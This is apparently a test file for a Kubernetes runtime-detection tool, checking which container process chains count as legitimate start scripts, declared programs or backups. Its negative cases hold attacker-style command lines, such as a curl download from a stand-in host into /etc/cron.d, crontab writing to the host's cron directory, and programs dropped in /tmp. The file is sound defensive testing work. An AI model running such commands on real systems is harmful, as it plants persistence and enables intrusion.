import { factContext, factsFromFile } from '@tidewaiter/facts';
import { observe } from '@tidewaiter/sensors';

import { recordOf } from '../storylines/storyline.js';
import { FileWriters } from './file-writers.js';
import { IssuedKeys } from './issued-keys.js';
import { OwnObjects } from './own-objects.js';
import { type Work, works } from './own-work.js';
import { PodOrigins } from './pod-origins.js';
import { ProcessTree } from './process-tree.js';

const digest = `sha256:${'d'.repeat(64)}`;
const programs = [
  ...['/bin/sh', '/bin/bash', '/usr/bin/crontab', '/usr/bin/curl', '/usr/bin/python3.11', '/usr/bin/supervisord'],
  ...[
    '/usr/local/bin/etcdctl',
    '/usr/bin/aws',
    '/usr/bin/barman-cloud-wal-archive',
    '/usr/bin/rclone',
    '/usr/bin/cloudflared',
    '/usr/bin/redis-sentinel',
  ],
  ...['/usr/lib/postgresql/17/bin/postgres', '/usr/sbin/cron', '/usr/bin/pgbackrest'],
  ...['/usr/sbin/nginx', '/opt/ruby/bin/ruby', '/opt/bin/configure', '/entry.sh', '/users.sh'],
];

interface Start {
  work?: Work;
  /** Command lines from the first of the container on. */
  chain: string[];
  /** Seconds after the start of the container. */
  afterS?: number;
  policy?: object;
  image?: object;
  init?: boolean;
  suspicion?: string;
  /** Program that the parent of the last has started before. */
  before?: string;
  /** Identities that changed the workload before, or another resource, with their user agents. */
  changedBy?: [user: string, agent: string, resource?: string][];
}

/** Whether the last of a chain does work of a kind. */
function isExplained({
  work = 'start-script',
  chain,
  afterS = 20,
  policy = {},
  image = {},
  init = true,
  suspicion,
  before,
  changedBy = [],
}: Start): boolean {
  const beganMs = Date.parse('2026-04-01T10:00:00Z');
  const start_time = new Date(beganMs).toISOString();
  const id = `containerd://${'c'.repeat(64)}`;
  const container = { id, name: 'main', image: { id: `r.example/app@${digest}` }, start_time };
  const pod = { namespace: 'shop', name: 'app-0', container, workload: 'app', workload_kind: 'Deployment' };
  const place = { pod, docker: 'c'.repeat(31), in_init_tree: init };
  const at = new Date(beganMs + afterS * 1000).toISOString();
  const named = (text: string, index: number) => {
    const [binary = ''] = text.split(' ', 1);
    return { exec_id: `${index}`, pid: index + 9, uid: 0, binary, arguments: text.slice(binary.length + 1) };
  };
  const tree = new ProcessTree();
  const lines = ['/usr/bin/containerd-shim-runc-v2', ...chain];
  const started = (line: string, index: number, execId = index + 1) => {
    const process = { ...named(line, execId), ...place, parent_exec_id: `${index}`, start_time: at };
    const parent = { ...named(lines[index]!, index), ...(index > 0 ? place : {}), start_time: at };
    const event = { process_exec: { process, parent }, node_name: 'n', time: at };
    const observation = observe(recordOf({ id: `${execId}`, at, source: 'tetragon', event }, 'c'));
    return { observation, process: tree.note(observation) };
  };
  if (before !== undefined) started(before, chain.length - 1, 99);
  const { observation, process } = chain.map((line, index) => started(line, index)).at(-1)!;
  if (suspicion !== undefined) tree.suspect(process!, suspicion, observation.timeMs);
  const files = Object.fromEntries(programs.map((each) => [each, { sha256: 'a'.repeat(64) }]));
  const known = { repository: 'docker.io/acme/app', tag: '1', digest, files, packages: [], ...image };
  const facts = factContext(
    factsFromFile({
      format: 'tidewaiter-storyline-facts/1',
      cluster: 'c',
      images: { [digest]: known },
      policy: { admins: ['ops@example.com'], internal_ranges: ['10.0.0.0/8'], ...policy },
    }),
  );
  const [writers, origins] = [new FileWriters(), new PodOrigins()];
  for (const [username, userAgent, resource = 'deployments'] of changedBy) {
    const [kind = '', subresource] = resource.split('/');
    const objectRef = {
      resource: kind,
      ...(subresource && { subresource }),
      namespace: 'shop',
      name: kind === 'pods' ? 'app-0' : 'app',
    };
    const verb = subresource === 'exec' ? 'create' : 'patch';
    const about = { kind: 'Event', stage: 'ResponseComplete', verb, user: { username }, userAgent, objectRef };
    const request = { ...about, sourceIPs: ['10.0.0.9'], responseStatus: { code: 200 } };
    origins.note(observe(recordOf({ id: 'a', at, source: 'kubernetes-audit', event: request }, 'c')), facts);
  }
  return works[work]({
    observation,
    process,
    tree,
    writers,
    origins,
    objects: new OwnObjects(),
    issuedKeys: new IssuedKeys(),
    facts,
  });
}

const script = '/bin/bash /entry.sh';
const cart = 'system:serviceaccount:shop:cart';
const portal = 'system:serviceaccount:web:portal';

describe('start-script', () => {
  it.each<[string, Start]>([
    ['the script itself', { chain: [script] }],
    ['a script that it starts', { chain: [script, '/bin/bash /users.sh bob'] }],
    ['a program of the image', { chain: [script, '/usr/bin/crontab /app/crontab'] }],
    ['an interpreter with a script of the image', { chain: [script, '/opt/ruby/bin/ruby /opt/bin/configure'] }],
    ['a script below a supervisor', { chain: ['/usr/bin/python3.11 /usr/bin/supervisord', script] }],
    [
      'a configuration that an account of the namespace changed',
      { chain: [script], changedBy: [[cart, 'curl/8.1', 'configmaps']] },
    ],
    ['an unsigned image', { chain: [script], image: { signature: { signed: false, verified: false } } }],
  ])('explains %s', (_, start) => {
    expect(isExplained(start)).toBe(true);
  });

  it.each<[string, Start]>([
    ['what happens later', { chain: [script], afterS: 600 }],
    ['a session of exec', { chain: [script], init: false }],
    ['a command line', { chain: ['/bin/sh -c "crontab /tmp/x"', '/usr/bin/crontab /tmp/x'] }],
    ['a script that the image lacks', { chain: ['/bin/bash /data/run.sh'] }],
    ['a server', { chain: [script, '/usr/sbin/nginx'] }],
    ['code on the command line', { chain: [script, '/usr/bin/python3.11 -c x'] }],
    ['a download', { chain: [script, '/usr/bin/curl -o /etc/cron.d/x https://x.example'] }],
    ['a script below an interpreter', { chain: ['/usr/bin/python3.11 /app.py', script] }],
    ['a program that the image lacks', { chain: [script, '/data/crontab x'] }],
    ['a file of the node', { chain: [script, '/usr/bin/crontab /host/etc/cron.d/x'] }],
    ['an image that runs for the first time', { chain: [script], policy: { image_first_seen: true } }],
    [
      'an image by a moved tag',
      { chain: [script], image: { previous_digests: [{ digest: `sha256:${'e'.repeat(64)}` }] } },
    ],
    ['a suspected process', { chain: [script], suspicion: 'drift' }],
    [
      'a configuration that another application changed',
      { chain: [script], changedBy: [[portal, 'axios/1.7', 'configmaps']] },
    ],
  ])('does not explain %s', (_, start) => {
    expect(isExplained(start)).toBe(false);
  });
});

const admin: [string, string] = ['ops@example.com', 'kubectl/v1.33.4'];
const thief: [string, string] = [cart, 'curl/8.1'];

describe('declared', () => {
  const tunnel = '/usr/bin/cloudflared tunnel run';

  it.each<[string, boolean, Partial<Start>]>([
    ['the program of an administrator’s workload', true, { changedBy: [admin] }],
    ['one that nobody was seen to make', false, {}],
    ['one that an application made', false, { changedBy: [thief] }],
    ['one that an application changed later', false, { changedBy: [admin, thief] }],
    ['one that exec starts', false, { changedBy: [admin], init: false }],
    ['one that a shell starts', false, { changedBy: [admin], chain: ['/bin/sh -c x', tunnel] }],
    ['one that the image lacks', false, { changedBy: [admin], chain: ['/data/cloudflared tunnel run'] }],
  ])('decides about %s: %s', (_, expected, start) => {
    expect(isExplained({ work: 'declared', chain: [tunnel], ...start })).toBe(expected);
  });
});

describe('own-script', () => {
  it.each<[string, boolean, string[]]>([
    [
      'what a script of the image starts',
      true,
      ['/usr/bin/redis-sentinel', '/bin/bash /users.sh +sdown', '/usr/bin/curl x'],
    ],
    ['what a command line starts', false, ['/usr/bin/redis-sentinel', '/bin/bash -c "curl x"', '/usr/bin/curl x']],
    [
      'what a script starts that a command line calls',
      false,
      [
        '/usr/bin/redis-sentinel',
        '/bin/sh -c "bash /users.sh curl x"',
        '/bin/bash /users.sh curl x',
        '/usr/bin/curl x',
      ],
    ],
    ['what another script starts', false, ['/usr/bin/redis-sentinel', '/bin/bash /data/x.sh', '/usr/bin/curl x']],
  ])('decides about %s: %s', (_, expected, chain) => {
    expect(isExplained({ work: 'own-script', chain, afterS: 9_000 })).toBe(expected);
  });
});

describe('backup', () => {
  const signed = { repository: 'r.example/ops' };
  const velero = 'system:serviceaccount:velero:velero';
  const archive = '/usr/bin/barman-cloud-wal-archive s3://b/ pg pg_wal/0003';
  const upload = '/usr/bin/aws s3 cp /backup/s.db s3://b/';
  const postgres = '/usr/lib/postgresql/17/bin/postgres -D /data';
  const push = '/usr/bin/pgbackrest --stanza=db archive-push pg_wal/0003';

  it.each<[string, boolean, Partial<Start>]>([
    ['an upload after the snapshot of the same script', true, { before: '/usr/local/bin/etcdctl snapshot save /s.db' }],
    ['an upload by the declared program of a volume', true, { chain: ['/controller/manager run', archive] }],
    [
      'a backup that its operator starts in the pod',
      true,
      { chain: [archive], init: false, changedBy: [[velero, 'velero-server/v1.16', 'pods/exec']] },
    ],
    [
      'a backup that a user starts in the pod',
      false,
      { chain: [archive], init: false, changedBy: [['dev@example.com', 'kubectl/v1.33', 'pods/exec']] },
    ],
    ['a backup that a database starts long after', true, { chain: [script, postgres, push], afterS: 9000 }],
    ['a backup by the scheduler beside it', true, { chain: [script, '/usr/sbin/cron -f', '/bin/sh /x.sh', push] }],
    ['a backup below a shell that raised an alert', false, { chain: [script, postgres, push], suspicion: 'shell' }],
    ['a backup below a dropped program', false, { chain: [script, postgres, '/tmp/x', push] }],
    ['a backup below a web server', false, { chain: [script, '/usr/sbin/nginx', '/bin/sh -c x', push] }],
    ['an upload by a dropped program', false, { chain: ['/tmp/manager run', archive] }],
    ['an upload by a program below that', false, { chain: ['/controller/manager run', '/data/x', archive] }],
    ['an upload after a snapshot by what was brought in', false, { before: '/tmp/etcdctl snapshot save /s.db' }],
    ['an upload alone', false, {}],
    [
      'an upload below the command that saves a snapshot',
      true,
      { chain: ['/bin/sh -c "x snapshot save /s; aws"', upload] },
    ],
    ['a sync that an administrator declared', true, { chain: ['/usr/bin/rclone sync /data b2:x'], changedBy: [admin] }],
    ['a sync that an application declared', false, { chain: ['/usr/bin/rclone sync /data b2:x'], changedBy: [thief] }],
  ])('decides about %s: %s', (_, expected, start) => {
    expect(isExplained({ work: 'backup', image: signed, chain: [script, upload], ...start })).toBe(expected);
  });
});
